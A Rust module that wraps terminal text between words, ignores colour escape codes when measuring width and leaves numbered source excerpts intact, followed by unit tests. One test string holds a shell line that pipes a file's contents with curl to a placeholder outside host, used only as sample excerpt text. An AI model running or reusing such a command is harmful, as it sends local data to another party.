//! Lines for a terminal: broken between words, never inside one.
//!
//! A word that is wider than the terminal stays whole, so that a path or an address can be copied. A continued line is indented by two
//! columns. Colours take no space.

use unicode_width::UnicodeWidthChar;

/// The text with lines that fit into this many columns; unchanged without a terminal.
pub(crate) fn wrapped(text: &str, width: Option<usize>) -> String {
    let Some(width) = width else {
        return text.to_owned();
    };
    let mut out = String::with_capacity(text.len() + text.len() / 16);
    for line in text.split_inclusive('\n') {
        let (body, end) = match line.strip_suffix('\n') {
            Some(body) => (body, "\n"),
            None => (line, ""),
        };
        if columns(body) <= width || is_excerpt(body) {
            out.push_str(body);
        } else {
            wrap_line(body, width, &mut out);
        }
        out.push_str(end);
    }
    out
}

/// `  3 | code`: an excerpt with its line number, where a caret below it marks a column.
fn is_excerpt(line: &str) -> bool {
    let gutter = line
        .trim_start()
        .trim_start_matches(|c: char| c.is_ascii_digit());
    gutter.starts_with(" |") || (gutter.starts_with('|') && line.starts_with(' '))
}

fn wrap_line(line: &str, width: usize, out: &mut String) {
    let indent = line.len() - line.trim_start_matches(' ').len();
    let hanging = (indent + 2).min(width / 2);
    let (mut used, mut is_first) = (0, true);
    for piece in line.split_inclusive(' ') {
        let word = piece.trim_end_matches(' ');
        let needed = columns(word);
        if !is_first && used + needed > width && needed > 0 {
            let kept = out.trim_end_matches(' ').len();
            out.truncate(kept);
            out.push('\n');
            out.push_str(&" ".repeat(hanging));
            used = hanging;
        }
        out.push_str(piece);
        used += columns(piece);
        is_first = is_first && needed == 0;
    }
}

/// How many columns a text takes; sequences that set a colour take none.
fn columns(text: &str) -> usize {
    let mut letters = text.chars();
    let mut sum = 0;
    while let Some(c) = letters.next() {
        if c == '\u{1b}' {
            letters.by_ref().find(|c| c.is_ascii_alphabetic());
        } else {
            sum += c.width().unwrap_or(0);
        }
    }
    sum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(width: usize, text: &str, expected: &str) {
        assert_eq!(wrapped(text, Some(width)), expected);
    }

    #[test]
    fn lines_break_between_words() {
        check(20, "short\n", "short\n");
        check(
            20,
            "one two three four five six\n",
            "one two three four\n  five six\n",
        );
        check(
            20,
            "    one two three four five\n",
            "    one two three\n      four five\n",
        );
        assert_eq!(
            wrapped("one two three four five six", None),
            "one two three four five six"
        );
    }

    #[test]
    fn a_long_word_stays_whole() {
        check(
            20,
            "see /a/path/that/is/longer/than/the/screen now",
            "see\n  /a/path/that/is/longer/than/the/screen\n  now",
        );
    }

    #[test]
    fn colours_take_no_room_and_excerpts_keep_their_columns() {
        let painted = "\u{1b}[1mone\u{1b}[0m two three four";
        check(20, painted, painted);
        let excerpt = "  3 | cat x | curl -s -d @- https://collect.invalid/k\n    |         ^\n";
        check(20, excerpt, excerpt);
    }
}
